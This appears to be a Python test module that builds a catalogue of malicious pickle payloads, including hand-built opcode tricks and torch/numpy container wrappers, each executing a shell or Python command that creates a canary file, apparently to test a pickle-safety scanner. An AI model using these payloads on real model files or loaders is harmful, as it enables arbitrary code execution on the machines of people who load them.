"""Pickles that create a file when they are loaded, in every way that we know of."""

import bdb
import builtins
import code as interactive
import codecs
import concurrent.futures
import cProfile
import ctypes
import functools
import gzip
import importlib
import io
import itertools
import logging
import marshal
import operator
import os
import pickle
import profile
import pty
import pydoc
import runpy
import shutil
import struct
import subprocess
import sys
import tarfile
import timeit
import trace
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import torch

# In a process of its own, with the standard library's unpickler: are they live?
_LOADER = """
import copyreg, pickle, sys
copyreg.add_extension("posix", "system", 0x77)
class Loader(pickle.Unpickler):
    def persistent_load(self, pid):
        return pid
for path in sys.argv[1:]:
    try:
        with open(path, "rb") as file:
            Loader(file).load()
    except Exception as error:
        print(path, repr(error)[:300], file=sys.stderr)
"""


class Call:
    """Pickles as a call of `function`; function and arguments may be calls themselves."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function = function
        self.arguments = arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments

    def __call__(self) -> None:
        raise AssertionError("never called here; only what has this method can be pickled")


def make_payloads(canary: Path) -> dict[str, bytes]:
    """Return pickles by name; each creates `canary` with its name appended."""

    def place(name: str) -> str:
        return f"{canary}.{name}"

    def shell(name: str) -> str:
        return f"touch {place(name)}"

    def code(name: str) -> str:
        return f"open({place(name)!r}, 'w').close()"

    def module(name: str) -> Call:
        return Call(importlib.import_module, name)

    def saved(name: str) -> bytes:
        target = io.BytesIO()
        torch.save(Call(os.system, shell(name)), target)
        return target.getvalue()

    array = io.BytesIO()
    np.save(array, np.array([Call(os.system, shell("numpy_load"))], dtype=object))
    compiled = marshal.dumps(compile(code("code_object"), "x", "exec"))
    objects: dict[str, Any] = {
        "os_system": Call(os.system, shell("os_system")),
        "eval": Call(builtins.eval, code("eval")),
        "exec": Call(builtins.exec, code("exec")),
        "open": Call(builtins.open, place("open"), "w"),
        "import_getattr": Call(
            Call(getattr, Call(builtins.__import__, "os"), "system"), shell("import_getattr")
        ),
        "popen": Call(subprocess.Popen, ["sh", "-c", shell("popen")]),
        "check_output": Call(subprocess.check_output, ["sh", "-c", shell("check_output")]),
        "nested_pickle": Call(pickle.loads, pickle.dumps(Call(os.system, shell("nested_pickle")))),
        "torch_bytes": Call(torch.storage._load_from_bytes, saved("torch_bytes")),
        "torch_load": Call(
            functools.partial(torch.load, weights_only=False),
            Call(io.BytesIO, saved("torch_load")),
        ),
        "numpy_object": np.array([Call(os.system, shell("numpy_object"))], dtype=object),
        "numpy_load": Call(
            functools.partial(np.load, allow_pickle=True), Call(io.BytesIO, array.getvalue())
        ),
        "partial_state": Call(functools.partial(os.system, shell("partial_state"))),
        "map": Call(list, Call(map, os.system, [shell("map")])),
        "methodcaller": Call(operator.methodcaller("system", shell("methodcaller")), module("os")),
        "attrgetter": Call(
            Call(operator.attrgetter("path.os.system"), module("os")), shell("attrgetter")
        ),
        "timeit": Call(timeit.timeit, code("timeit"), "pass", timeit.default_timer, 1),
        "profile": Call(cProfile.run, code("profile")),
        "code_object": Call(
            Call(Call(getattr, module("types"), "FunctionType"), Call(marshal.loads, compiled), {})
        ),
        "c_library": Call(
            Call(getattr, Call(ctypes.CDLL, None), "system"), shell("c_library").encode()
        ),
        "inside_data": {"weights": [1, 2, (3, Call(os.system, shell("inside_data")))]},
        "as_key": {Call(os.system, shell("as_key")): 1},
    }
    objects |= _call_shells(shell, module) | _run_code(code) | _write_files(place)
    made = {name: pickle.dumps(value, protocol=2) for name, value in objects.items()}
    return made | _make_by_hand(place, shell)


def _call_shells(shell: Any, module: Any) -> dict[str, Any]:
    """More doors of the standard library to a shell."""

    def words(name: str) -> list[str]:
        return ["sh", "-c", shell(name)]

    return {
        "os_popen": Call(Call(operator.methodcaller("read"), Call(os.popen, shell("os_popen")))),
        "run": Call(subprocess.run, words("run")),
        "call": Call(subprocess.call, words("call")),
        "check_call": Call(subprocess.check_call, words("check_call")),
        "getoutput": Call(subprocess.getoutput, shell("getoutput")),
        "getstatusoutput": Call(subprocess.getstatusoutput, shell("getstatusoutput")),
        "spawnvp": Call(os.spawnvp, os.P_WAIT, "sh", words("spawnvp")),
        "spawnlp": Call(os.spawnlp, os.P_WAIT, "sh", *words("spawnlp")),
        "posix_spawn": Call(
            os.waitpid, Call(os.posix_spawn, "/bin/sh", words("posix_spawn"), {}), 0
        ),
        "pty": Call(pty.spawn, words("pty")),
        "pydoc_pager": Call(pydoc.pipepager, "", shell("pydoc_pager")),
        "starmap": Call(list, Call(itertools.starmap, os.system, [(shell("starmap"),)])),
        "filter": Call(list, Call(filter, os.system, [shell("filter")])),
        "operator_call": Call(operator.call, os.system, shell("operator_call")),
        "reduce": Call(functools.reduce, operator.call, [os.system, shell("reduce")]),
        "thread_pool": Call(
            Call(getattr, Call(concurrent.futures.ThreadPoolExecutor), "submit"),
            os.system,
            shell("thread_pool"),
        ),
        "dictionary": Call(
            Call(operator.itemgetter("system"), Call(vars, module("os"))), shell("dictionary")
        ),
    }


def _run_code(code: Any) -> dict[str, Any]:
    """More doors of the standard library to Python itself."""
    return {
        "compile": Call(builtins.exec, Call(compile, code("compile"), "x", "exec")),
        "profile_run": Call(profile.run, code("profile_run")),
        "pure_timer": Call(Call(getattr, Call(timeit.Timer, code("pure_timer")), "timeit"), 1),
        "repeat": Call(timeit.repeat, code("repeat"), "pass", timeit.default_timer, 1, 1),
        "debugger": Call(Call(getattr, Call(bdb.Bdb), "run"), code("debugger"), {}, {}),
        "tracer": Call(Call(getattr, Call(trace.Trace), "run"), code("tracer")),
        "interpreter": Call(
            Call(getattr, Call(interactive.InteractiveInterpreter), "runsource"),
            code("interpreter"),
        ),
        "run_code": Call(runpy._run_code, Call(compile, code("run_code"), "x", "exec"), {}),
    }


def _write_files(place: Any) -> dict[str, Any]:
    """Nothing but a file of the author's choice; also an open door."""
    return {
        "file_io": Call(io.FileIO, place("file_io"), "w"),
        "codecs": Call(codecs.open, place("codecs"), "w"),
        "gzip": Call(gzip.open, place("gzip"), "wb"),
        "zip_file": Call(zipfile.ZipFile, place("zip_file"), "w"),
        "tar_file": Call(tarfile.open, place("tar_file"), "w"),
        "log_file": Call(logging.FileHandler, place("log_file")),
        "make_folder": Call(os.mkdir, place("make_folder")),
        "link": Call(os.symlink, "/etc", place("link")),
        "touch": Call(Path.touch, Path(place("touch"))),
        "copy": Call(shutil.copyfile, "/dev/null", place("copy")),
        "numpy_save": Call(np.savetxt, place("numpy_save"), [1.0]),
        "torch_save": Call(torch.save, 1, place("torch_save")),
    }


def _make_by_hand(place: Any, shell: Any) -> dict[str, bytes]:
    """Make those that use instructions which `pickle.dumps` does not choose."""

    def short(text: str) -> bytes:
        return b"\x8c" + bytes([len(text)]) + text.encode()

    def text(value: str) -> bytes:
        raw = value.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw

    create = b"}" + text("mode") + text("w+") + b"s" + text("shape") + b"K\x01\x85s"
    return {
        "protocol_0": f"cposix\nsystem\n(S'{shell('protocol_0')}'\ntR.".encode(),
        "python_2": b"c__builtin__\neval\n("
        + text(f"open({place('python_2')!r}, 'w').close()")
        + b"tR.",
        "inst": f"(S'{shell('inst')}'\niposix\nsystem\n.".encode(),
        "obj": b"(cposix\nsystem\n" + text(shell("obj")) + b"o.",
        "newobj_ex": b"\x80\x04"
        + short("numpy")
        + short("memmap")
        + b"\x93"
        + text(place("newobj_ex"))
        + b"\x85"
        + create
        + b"\x92.",
        "newobj": b"\x80\x04"
        + short("numpy")
        + short("memmap")
        + b"\x93("
        + text(place("newobj"))
        + text("u1")
        + text("w+")
        + b"K\x00K\x01\x85t\x81.",
        "extension": b"\x80\x02\x82\x77" + text(shell("extension")) + b"\x85R.",
        "stack_global": b"\x80\x04"
        + short("posix")
        + b"\x94"
        + short("system")
        + b"\x940h\x00h\x01\x93\x94"
        + text(shell("stack_global"))
        + b"\x85R.",
        "dotted_name": b"\x80\x04"
        + short("shutil")
        + short("os.system")
        + b"\x93"
        + text(shell("dotted_name"))
        + b"\x85R.",
        "dotted_torch": b"\x80\x04"
        + short("torch.serialization")
        + short("os.system")
        + b"\x93"
        + text(shell("dotted_torch"))
        + b"\x85R.",
        "persistent_id": b"\x80\x02cposix\nsystem\n"
        + text(shell("persistent_id"))
        + b"\x85R\x85Q.",
        "after_the_end": b"\x80\x02]"
        + b"cposix\nsystem\n"
        + text(shell("after_the_end"))
        + b"\x85R0.",
    }


def find_live(folder: Path, payloads: dict[str, bytes], canary: Path) -> set[str]:
    """Load all of them with full trust in another process, and return which created their file."""
    paths = []
    for name, payload in payloads.items():
        (folder / name).write_bytes(payload)
        paths.append(str(folder / name))
    done = subprocess.run(
        [sys.executable, "-c", _LOADER, *paths], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    live = {name for name in payloads if os.path.lexists(f"{canary}.{name}")}
    for name in live:
        made = Path(f"{canary}.{name}")
        made.unlink() if made.is_symlink() or not made.is_dir() else made.rmdir()
    return live


# --- containers ----------------------------------------------------------------------------------


def as_zip(payload: bytes) -> bytes:
    """Put a pickle into the format of torch since 1.6."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/byteorder", sys.byteorder)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", b"\0" * 64)
    return target.getvalue()


def as_legacy(payload: bytes) -> bytes:
    """Put a pickle into the format of torch before 1.6: several pickles, one after the other."""
    numbers = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    return b"".join(pickle.dumps(number, 2) for number in numbers) + payload + pickle.dumps([], 2)


def as_tar(payload: bytes) -> bytes:
    """Put a pickle into the format of torch before 0.1.10."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, data in (("sys_info", payload), ("pickle", payload), ("storages", payload)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return target.getvalue()


def as_plain(payload: bytes) -> bytes:
    """Leave a pickle as it is."""
    return payload


CONTAINERS = {"zip": as_zip, "legacy": as_legacy, "tar": as_tar, "plain": as_plain}
